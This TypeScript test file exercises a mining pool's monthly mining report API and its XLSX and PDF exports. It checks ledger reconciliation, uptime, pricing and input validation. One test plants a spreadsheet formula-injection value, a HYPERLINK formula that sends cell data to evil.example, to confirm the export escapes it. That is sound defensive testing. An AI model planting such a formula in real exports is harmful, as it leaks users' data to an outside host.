import ExcelJS from 'exceljs';
import type { FastifyBaseLogger } from 'fastify';
import { extractText } from 'unpdf';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  balanceSchema,
  centsOf,
  errorResponseSchema,
  fiatValue,
  miningReportSchema,
  paymentsResponseSchema,
  payoutHourUtc,
  rewardHourUtc,
  type MiningReport,
  type Payment,
} from '@pool/contract';
import { grantPermission } from '../../test/database.js';
import { useTestApp } from '../../test/test-app.js';
import { TestIdentity } from '../../test/test-identity.js';
import { defaultMoneySettings } from '../module-deps.js';
import { ledgerAccountId, postTransfer } from '../ledger/index.js';
import { SimulatedChain } from '../chain/index.js';
import { PayoutsJob } from '../payouts/index.js';
import { addDays, dayStart } from '../../domain/pool-day.js';
import { RewardsJob } from '../rewards/index.js';
import { WalletsRepository } from '../wallets/index.js';
import { demoDayPrices, seedDemoDayRates } from '../demo/index.js';
import { sats } from '../../domain/sats.js';
import { MiningReportRepository } from './repository.js';

/**
 * The monthly mining report over demo-like data made by the real jobs: seven weeks of an
 * account's work across three months, each day credited at 09:00 UTC and paid at 14:00
 * UTC on the simulated chain, the demo's daily prices (one day left without), and profit
 * splits both ways. The months chain (each opens where the last closed), their totals
 * are the payments' and the ledger's, and the downloads read back to the same figures.
 */

const silent = () => undefined;
const log = { info: silent, warn: silent, debug: silent, error: silent } as unknown as FastifyBaseLogger;
const now = new Date('2026-03-10T12:00:00.000Z');
const firstDay = '2026-01-20';
const today = '2026-03-10';
/** The day the price source failed: no price, never zero. */
const dayWithoutPrice = '2026-02-14';
/** Half of its 4-hour periods without shares. */
const halfDay = '2026-02-10';
/** rig4 connects at the start of this day and sends no share after: off the next day, removed on idleRigRemoved. */
const idleRigFrom = '2026-02-20';
const idleRigRemoved = '2026-02-28';
/** About 1 PH/s for a whole day, in share difficulty. */
const petahashDay = 20_116_567_472;
const months = ['2026-01', '2026-02', '2026-03'] as const;

const identity = new TestIdentity();
const owner = identity.add({ id: '00000000-0000-4000-8000-0000000000e1', email: 'rigs@example.com' });
const testApp = useTestApp(identity, { clock: () => now });
const ids = { pool: '', operator: '', miner: '', ledger: '', operatorIncome: '', fund: '' };
const watcherToken = 'report-watcher-token-0001';

const url = (month: string) => `/miners/${ids.miner}/mining-report?month=${month}`;
async function report(month: string): Promise<MiningReport> {
  const response = await testApp.call(owner.id, 'GET', url(month));
  expect(response.statusCode, response.body).toBe(200);
  return miningReportSchema.parse(response.json());
}

function everyMonth(): Promise<[MiningReport, MiningReport, MiningReport]> {
  return Promise.all([report(months[0]), report(months[1]), report(months[2])]);
}

async function allPayments(): Promise<Payment[]> {
  const response = await testApp.call(owner.id, 'GET', `/miners/${ids.miner}/payments?per_page=100`);
  const page = paymentsResponseSchema.parse(response.json());
  expect(page.pagination.total).toBeLessThanOrEqual(100);
  return page.data;
}

beforeAll(async () => {
  const { pool, db } = testApp.database;
  const one = async (text: string, values: unknown[] = []) =>
    (await pool.query<{ id: string }>(text, values)).rows[0]!.id;
  ids.pool = await one('SELECT id FROM pools WHERE is_current');
  ids.operator = await one("INSERT INTO operators (pool_id, name, title) VALUES ($1, 'Hub', 'hub') RETURNING id", [
    ids.pool,
  ]);
  ids.miner = await one(
    "INSERT INTO miner_accounts (pool_id, operator_id, account_name) VALUES ($1, $2, 'report_rigs') RETURNING id",
    [ids.pool, ids.operator],
  );
  await grantPermission(pool, owner.id, 'miner', ids.miner);
  await pool.query(
    "INSERT INTO watchers (token, miner_id, created_by, sections) VALUES ($1, $2, $3, ARRAY['section_payments_read'])",
    [watcherToken, ids.miner, owner.id],
  );
  await pool.query(
    "INSERT INTO fee_schedules (miner_id, kind, percent, start_date) VALUES ($1, 'operator', 3, '2026-01-01')",
    [ids.miner],
  );
  await pool.query("INSERT INTO reward_rates (pool_id, date, rate, source) VALUES ($1, '2026-01-01', 50, 'manual')", [
    ids.pool,
  ]);
  // The account's series and three workers; every 4-hour bucket of every day, but half of halfDay's.
  await pool.query(
    `WITH s AS (INSERT INTO hashrate_series (kind, pool_id, operator_id, miner_id, worker_name)
                SELECT CASE WHEN w IS NULL THEN 'miner' ELSE 'worker' END::series_kind, $1, $2, $3, w
                  FROM unnest(ARRAY[NULL, 'rig1', 'rig2', 'rig3']) w RETURNING id, kind)
     INSERT INTO hashrate_figures (series_id, pool_id, worker, first_share_at, last_share_at)
     SELECT id, $1, kind = 'worker', $4, $5 FROM s`,
    [ids.pool, ids.operator, ids.miner, dayStart(firstDay), new Date(now.getTime() - 60_000)],
  );
  // A fourth rig that connected on idleRigFrom and has sent nothing since: part of the
  // fleet (expected to mine) until it is removed, six full days after it went off.
  await pool.query(
    `WITH s AS (INSERT INTO hashrate_series (kind, pool_id, operator_id, miner_id, worker_name)
                VALUES ('worker', $1, $2, $3, 'rig4') RETURNING id)
     INSERT INTO hashrate_figures (series_id, pool_id, worker, first_share_at, last_share_at) SELECT id, $1, true, $4, $4 FROM s`,
    [ids.pool, ids.operator, ids.miner, dayStart(idleRigFrom)],
  );
  await pool.query(
    `INSERT INTO hashrate_4h (series_id, bucket, accepted, rejected, shares)
     SELECT s.id, t, CASE WHEN s.kind = 'miner' THEN $2::float8 / 6 ELSE $2::float8 / 18 END, 0, 10
       FROM hashrate_series s, generate_series($3::timestamptz, $4::timestamptz, interval '4 hours') t
      WHERE s.miner_id = $1 AND s.worker_name IS DISTINCT FROM 'rig4' AND NOT (t >= $5::timestamptz AND t < $5::timestamptz + interval '12 hours')`,
    [ids.miner, petahashDay, dayStart(firstDay), new Date(now.getTime() - 1), dayStart(halfDay)],
  );
  const wallets = new WalletsRepository(db);
  const walletId = await wallets.walletOf(ids.miner);
  const since = new Date('2026-01-01T00:00:00.000Z');
  await wallets.addAddress(db, {
    walletId,
    address: 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4',
    by: null,
    at: since,
  });
  await wallets.addLimit(db, { walletId, kind: 'min', amount: sats(100_000), by: null, at: since });

  // The demo's replay: each day's rewards at 09:00 UTC of the next, its payouts at 14:00 UTC.
  const at = (time: Date) => () => time;
  const hour = 3_600_000;
  for (let day = addDays(firstDay, 1); day < today; day = addDays(day, 1)) {
    const rewardTime = new Date(dayStart(day).getTime() + rewardHourUtc * hour);
    await new RewardsJob({ db, clock: at(rewardTime), log }).runDay(ids.pool, addDays(day, -1));
    const payoutTime = new Date(dayStart(day).getTime() + payoutHourUtc * hour);
    const chain = new SimulatedChain(db, at(payoutTime), defaultMoneySettings.simulatedBlockSeconds);
    await new PayoutsJob({ db, clock: at(payoutTime), settings: defaultMoneySettings, log, chain }).runDate(
      ids.pool,
      day,
    );
  }
  await new RewardsJob({ db, clock: () => now, log }).runDay(ids.pool, addDays(today, -1));
  await seedDemoDayRates(db, ids.pool, firstDay, addDays(today, -1));
  await pool.query('DELETE FROM pool_day_rates WHERE pool_day = $1', [dayWithoutPrice]);

  // Profit splits both ways and a referral share, as the reward run writes them (type
  // profit_sharing with its sharing type and the other account).
  ids.ledger = await ledgerAccountId(db, { kind: 'miner', poolId: ids.pool, minerId: ids.miner });
  ids.fund = await ledgerAccountId(db, { kind: 'reward_fund', poolId: ids.pool });
  const partner = (
    await pool.query<{ id: string }>(
      "INSERT INTO miner_accounts (pool_id, account_name) VALUES ($1, 'report_partner') RETURNING id",
      [ids.pool],
    )
  ).rows[0]!.id;
  const share = async (
    day: string,
    direction: 'incoming' | 'outgoing',
    amount: number,
    sharing: 'profit_sharing' | 'referral' = 'profit_sharing',
  ) =>
    db.transaction().execute(async (trx) => {
      const sign = direction === 'incoming' ? 1 : -1;
      const transferId = await postTransfer(trx, `${sharing}:${ids.miner}:${day}:${direction}`, 'profit_sharing', [
        { account: ids.fund, amount: sats(-sign * amount) },
        { account: ids.ledger, amount: sats(sign * amount) },
      ]);
      await trx
        .insertInto('payments')
        .values({
          account_id: ids.ledger,
          type: 'profit_sharing',
          sharing_type: sharing,
          counterparty_miner_id: partner,
          share_percent: '10',
          direction,
          status: 'completed',
          amount,
          pool_day: day,
          transfer_id: transferId ?? null,
          created_at: new Date(dayStart(addDays(day, 1)).getTime() + rewardHourUtc * hour),
        })
        .execute();
    });
  await share('2026-02-15', 'incoming', 7_777);
  await share('2026-02-16', 'outgoing', 1_234);
  await share('2026-02-17', 'incoming', 555, 'referral');
});

describe('GET /miners/{id}/mining-report', () => {
  it('gives every day of a month from the account’s first, the current one so far and marked incomplete', async () => {
    const [january, february, march] = await everyMonth();
    // The account's history begins on firstDay: January's days before it are not listed.
    expect(january.days.map((day) => day.day)).toEqual(
      Array.from({ length: 12 }, (_, index) => `2026-01-${String(20 + index)}`),
    );
    expect(february.days).toHaveLength(28);
    expect(march.days.map((day) => day.day)).toEqual(
      Array.from({ length: 10 }, (_, index) => `2026-03-${String(index + 1).padStart(2, '0')}`),
    );
    expect([january.complete, february.complete, march.complete]).toEqual([true, true, false]);
    expect(january).toMatchObject({ account: { id: ids.miner, name: 'report_rigs' }, month: '2026-01' });
  });

  it('measures the work of each day from the 4-hour buckets', async () => {
    const february = await report('2026-02');
    const full = february.days.find((day) => day.day === '2026-02-09')!;
    const half = february.days.find((day) => day.day === halfDay)!;
    expect(full).toMatchObject({ uptime: 1, active_workers: 3 });
    expect(full.hash_rate).toBeCloseTo((petahashDay * 2 ** 32) / 86_400, 0);
    expect(half.uptime).toBe(0.5);
    expect(half.hash_rate).toBeCloseTo(full.hash_rate / 2, 0);
    // Worker history is kept 35 days: older days, and the day the edge falls in (its first
    // hours already gone), say so rather than show fewer.
    for (const older of ['2026-02-02', '2026-02-03'])
      expect(february.days.find((day) => day.day === older)!).toMatchObject({ active_workers: null, uptime: null });
    expect(february.days.find((day) => day.day === '2026-02-04')!.active_workers).toBe(3);
    // The average is over the days the account existed, not over January's days before it.
    const january = await report('2026-01');
    expect(january.totals.hash_rate).toBeCloseTo(full.hash_rate, 0);
  });

  it('measures uptime over the fleet: the periods online over the periods each rig was expected', async () => {
    const february = await report('2026-02');
    const of = (day: string) => february.days.find((item) => item.day === day)!;
    // Three of four rigs ran all day: 75 %, though the account itself had shares in every period.
    expect(of('2026-02-21')).toMatchObject({ uptime: 0.75, active_workers: 3 });
    expect(of(addDays(idleRigRemoved, -1)).uptime).toBe(0.75);
    // Once removed, the idle rig is no longer expected.
    expect(of(idleRigRemoved).uptime).toBe(1);
    expect(of('2026-02-09').uptime).toBe(1);
    expect(february.totals.uptime).toBeGreaterThan(0.75);
    expect(february.totals.uptime).toBeLessThan(1);
  });

  it('marks the days not yet credited, so today is not drawn as a fall to zero', async () => {
    const march = await report('2026-03');
    expect(march.days.at(-1)).toMatchObject({ day: today, credited: false, net: { sat: 0 } });
    expect(march.days.at(-2)).toMatchObject({ day: addDays(today, -1), credited: true });
    expect(march.days.at(-2)!.net.sat).toBeGreaterThan(0);
  });

  it('chains the months and closes on the ledger’s balance', async () => {
    const [january, february, march] = await everyMonth();
    expect(january.opening_balance.sat).toBe(0);
    // The same satoshis at the same moment have the same value: one price per moment.
    expect(february.opening_balance).toEqual(january.closing_balance);
    expect(march.opening_balance).toEqual(february.closing_balance);
    expect(february.opening_balance.usdt).not.toBeNull();
    for (const month of [january, february, march]) {
      const { totals } = month;
      expect(month.closing_balance.sat).toBe(
        month.opening_balance.sat + totals.net.sat - totals.payouts.sat + totals.other.sat,
      );
    }
    const ledger = await testApp.database.db
      .selectFrom('ledger_accounts')
      .select('balance')
      .where('id', '=', ids.ledger)
      .executeTakeFirstOrThrow();
    const balance = balanceSchema.parse(
      (await testApp.call(owner.id, 'GET', `/miners/${ids.miner}/balance`)).json(),
    ).balance;
    expect(march.closing_balance.sat).toBe(ledger.balance);
    expect(march.closing_balance.sat).toBe(balance);
    expect(january.totals.payouts.sat + february.totals.payouts.sat).toBeGreaterThan(0);
  });

  it('totals each month exactly as /payments and the ledger’s reward transfers do', async () => {
    const payments = await allPayments();
    const { db } = testApp.database;
    for (const month of months) {
      const { totals, days } = await report(month);
      const of = (type: string) =>
        payments.filter((payment) => payment.type === type && payment.pool_day?.startsWith(month));
      const sum = (items: Payment[], value: (payment: Payment) => number) =>
        items.reduce((total, item) => total + value(item), 0);
      const rewards = of('reward');
      const shares = (kind: 'profit_sharing' | 'referral') =>
        sum(
          of('profit_sharing').filter((p) => p.sharing?.sharing_type === kind),
          (p) => (p.direction === 'incoming' ? p.amount : -p.amount),
        );
      const splits = shares('profit_sharing');
      expect(totals.gross.sat, month).toBe(sum(rewards, (p) => p.reward!.gross));
      expect(totals.pool_fee.sat, month).toBe(sum(rewards, (p) => p.reward!.fee));
      expect(totals.profit_sharing.sat, month).toBe(splits);
      expect(totals.referral.sat, month).toBe(shares('referral'));
      expect(totals.net.sat, month).toBe(sum(rewards, (p) => p.amount) + splits + shares('referral'));
      expect(totals.payouts.sat, month).toBe(
        sum(
          of('payout').filter((p) => p.status !== 'canceled'),
          (p) => p.amount,
        ),
      );
      // The ledger: what the month's reward transfers moved to the account and to the operator.
      const entries = await db
        .selectFrom('ledger_entries as e')
        .innerJoin('ledger_transfers as t', 't.id', 'e.transfer_id')
        .innerJoin('ledger_accounts as a', 'a.id', 'e.account_id')
        .select(['a.kind', (eb) => eb.fn.sum<string>('e.amount').as('amount')])
        .where('t.key', 'like', `reward:${ids.miner}:${month}-%`)
        .groupBy('a.kind')
        .execute();
      const moved = (kind: string) => Number(entries.find((entry) => entry.kind === kind)?.amount ?? 0);
      expect(totals.net.sat - totals.profit_sharing.sat - totals.referral.sat, month).toBe(moved('miner'));
      expect(totals.operator_fee.sat, month).toBe(moved('operator_income'));
      expect(totals.pool_fee.sat, month).toBe(moved('pool_income'));
      expect(totals.gross.sat, month).toBe(-moved('reward_fund'));
      // The month is the sum of its days, in satoshi and in the days' rounded fiat values.
      for (const key of [
        'gross',
        'pool_fee',
        'operator_fee',
        'profit_sharing',
        'referral',
        'net',
        'payouts',
      ] as const) {
        expect(days.reduce((total, day) => total + day[key].sat, 0)).toBe(totals[key].sat);
      }
    }
  });

  it('values each day at its own price, and says so when a day has none', async () => {
    const [january, february] = await Promise.all([report('2026-01'), report('2026-02')]);
    const day = february.days.find((item) => item.day === '2026-02-09')!;
    const prices = demoDayPrices('2026-02-09');
    expect(day.net.usdt).toBe(fiatValue(day.net.sat, prices.BTCUSDT));
    expect(day.net.rub).toBe(fiatValue(day.net.sat, prices.BTCRUB));
    expect(day.prices.BTCUSDT).toMatchObject({ source: 'demo' });
    const without = february.days.find((item) => item.day === dayWithoutPrice)!;
    expect(without.net.sat).toBeGreaterThan(0);
    expect(without).toMatchObject({ prices: { BTCUSDT: null, BTCRUB: null }, net: { usdt: null, rub: null } });
    expect(february.totals.net.usdt).toBeNull();
    // January's days before any work have no price and no money: the month still totals.
    const usdt = january.days.reduce((sum, item) => sum + centsOf(item.net.usdt ?? '0.00'), 0n);
    expect(january.totals.net.usdt).not.toBeNull();
    expect(centsOf(january.totals.net.usdt!)).toBe(usdt);
  });

  it('lists the payouts with their transactions', async () => {
    const february = await report('2026-02');
    expect(february.payouts.length).toBeGreaterThan(0);
    for (const payout of february.payouts) {
      expect(payout.tx_id).toMatch(/^[0-9a-f]{64}$/);
      expect(payout.address).toBe('bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4');
    }
  });

  it('refuses months before 2025-01, after the current one and malformed, with 400', async () => {
    for (const month of ['2024-12', '2026-04', '2026-13', '2026-1', 'march']) {
      const response = await testApp.call(owner.id, 'GET', url(month));
      expect(response.statusCode, month).toBe(400);
      expect(errorResponseSchema.parse(response.json()).error).toMatchObject({
        code: 'invalid_input',
        fields: [expect.objectContaining({ name: 'querystring.month' })],
      });
    }
    expect((await testApp.call(owner.id, 'GET', url('2025-01'))).statusCode).toBe(200);
  });

  it('is not for watcher links, even with the payments section', async () => {
    const response = await testApp.app.inject({
      method: 'GET',
      url: `/api/backend/v0.1${url('2026-02')}`,
      headers: { 'x-watcher-token': watcherToken },
    });
    expect(response.statusCode).toBe(403);
  });
});

describe('GET /miners/{id}/mining-report/export', () => {
  const download = (query: string) =>
    testApp.call(owner.id, 'GET', `/miners/${ids.miner}/mining-report/export?month=2026-02&${query}`);

  it('writes an XLSX whose rows are the days and whose columns sum to the totals', async () => {
    const [response, february] = await Promise.all([download('format=xlsx'), report('2026-02')]);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="mining-report-report_rigs-2026-02.xlsx"',
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(1 + 28 + 1);
    const satOf = (row: number, column: number) => Math.round(Number(sheet.getRow(row).getCell(column).value) * 1e8);
    let net = 0;
    let gross = 0;
    for (let row = 2; row <= 29; row++) {
      net += satOf(row, 10);
      gross += satOf(row, 5);
    }
    expect(net).toBe(february.totals.net.sat);
    expect(gross).toBe(february.totals.gross.sat);
    expect(satOf(30, 10)).toBe(february.totals.net.sat);
    expect(sheet.getRow(30).getCell(1).value).toBe('Total');
  });

  it('writes a pool name that would run as a formula as text, and the figures as numeric cells', async () => {
    const { pool } = testApp.database;
    const hostile = '=HYPERLINK("https://evil.example/?d="&B2,"open")';
    const { name } = (await pool.query<{ name: string }>('SELECT name FROM pools WHERE id = $1', [ids.pool])).rows[0]!;
    await pool.query('UPDATE pools SET name = $2 WHERE id = $1', [ids.pool, hostile]);
    try {
      const response = await download('format=xlsx');
      expect(response.statusCode).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
      const summary = workbook.worksheets[1]!;
      expect(summary.getRow(1).getCell(2).value).toBe(`'${hostile}`);
      expect(summary.getRow(2).getCell(2).value).toBe('report_rigs');
      expect(typeof summary.getRow(6).getCell(2).value).toBe('number');
    } finally {
      await pool.query('UPDATE pools SET name = $2 WHERE id = $1', [ids.pool, name]);
    }
  });

  it('writes a PDF with the pool, the account, the month, the days and totals, in Russian and Chinese too', async () => {
    const february = await report('2026-02');
    const texts: Record<string, string> = {};
    for (const language of ['en', 'ru', 'cn']) {
      const response = await download(`format=pdf&language=${language}`);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('application/pdf');
      expect(response.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
      const { text } = await extractText(new Uint8Array(response.rawPayload), { mergePages: true });
      texts[language] = text;
    }
    for (const text of Object.values(texts)) {
      expect(text).toContain('report_rigs');
      expect(text).toContain('2026-02');
      expect(text).toContain('2026-02-28');
      expect(text).toContain((february.totals.net.sat / 1e8).toFixed(8));
    }
    expect(texts.en).toContain('Mining report');
    expect(texts.ru).toContain('Отчёт о майнинге');
    expect(texts.cn).toContain('挖矿报告');
  });
});

describe('the work of a day still under way', () => {
  it('counts the open 4-hour bucket from its 20-minute buckets, which reach it only as each closes', async () => {
    const { pool, db } = testApp.database;
    const minerId = (
      await pool.query<{ id: string }>(
        "INSERT INTO miner_accounts (pool_id, account_name) VALUES ($1, 'report_today') RETURNING id",
        [ids.pool],
      )
    ).rows[0]!.id;
    // The account and one rig: the 08:00 bucket closed and carried; 12:00 and 12:20 in the
    // open 12:00 bucket, the 12:00 one carried into it already, the 12:20 one still open.
    await pool.query(
      `WITH s AS (INSERT INTO hashrate_series (kind, pool_id, miner_id, worker_name)
                  VALUES ('miner', $1, $2, NULL), ('worker', $1, $2, 'rig1') RETURNING id),
            twenty AS (INSERT INTO hashrate_20m (series_id, bucket, accepted, rejected, shares)
                       SELECT id, t, 100, 0, 1 FROM s, unnest($3::timestamptz[]) t)
       INSERT INTO hashrate_4h (series_id, bucket, accepted, rejected, shares)
       SELECT id, t, a, 0, n FROM s, unnest($4::timestamptz[], ARRAY[600, 100]::float8[], ARRAY[6, 1]) AS b (t, a, n)`,
      [
        ids.pool,
        minerId,
        ['2026-03-10T12:00:00Z', '2026-03-10T12:20:00Z'],
        ['2026-03-10T08:00:00Z', '2026-03-10T12:00:00Z'],
      ],
    );
    const repository = new MiningReportRepository(db);
    const from = dayStart(today);
    const to = new Date('2026-03-10T12:50:00Z');
    expect(await repository.work(minerId, from, to)).toEqual([{ day: today, accepted: 800, periods: 2 }]);
    expect(await repository.workerDays(minerId, from, to)).toEqual(new Map([[today, { workers: 1, periods: 2 }]]));
  });
});

describe('the work of a day whose last 4-hour bucket is still being carried', () => {
  it('counts that bucket from its 20-minute buckets until every slice has carried them', async () => {
    const { pool, db } = testApp.database;
    const minerId = (
      await pool.query<{ id: string }>(
        "INSERT INTO miner_accounts (pool_id, account_name) VALUES ($1, 'report_carrying') RETURNING id",
        [ids.pool],
      )
    ).rows[0]!.id;
    // The 20:00 bucket closed at midnight; the job has carried its 20-minute buckets up to
    // 23:40 only (the slices carry the last one in the minutes after the edge): that one is
    // still in its minute rows.
    const twenty = Array.from({ length: 11 }, (_, index) => new Date(Date.UTC(2026, 2, 9, 20, 20 * index)));
    await pool.query(
      `WITH s AS (INSERT INTO hashrate_series (kind, pool_id, miner_id) VALUES ('miner', $1, $2) RETURNING id),
            twenty AS (INSERT INTO hashrate_20m (series_id, bucket, accepted, rejected, shares)
                       SELECT id, t, 100, 0, 1 FROM s, unnest($3::timestamptz[]) t),
            minutes AS (INSERT INTO hashrate_1m (series_id, bucket, accepted, rejected, shares)
                        SELECT id, '2026-03-09T23:40:00Z'::timestamptz + make_interval(mins => i), 5, 0, 1
                          FROM s, generate_series(0, 19) i)
       INSERT INTO hashrate_4h (series_id, bucket, accepted, rejected, shares)
       SELECT id, '2026-03-09T20:00:00Z', 1100, 0, 11 FROM s`,
      [ids.pool, minerId, twenty],
    );
    await pool.query(`UPDATE hashrate_carry SET carried_to = '2026-03-09T23:40:00Z'`);
    try {
      const repository = new MiningReportRepository(db);
      const from = dayStart('2026-03-09');
      const to = new Date('2026-03-10T00:10:00Z');
      expect(await repository.work(minerId, from, to)).toEqual([{ day: '2026-03-09', accepted: 1200, periods: 1 }]);
    } finally {
      await pool.query('UPDATE hashrate_carry SET carried_to = NULL');
      await pool.query('UPDATE hashrate_1m_rollup SET rolled_to = NULL');
    }
  });
});
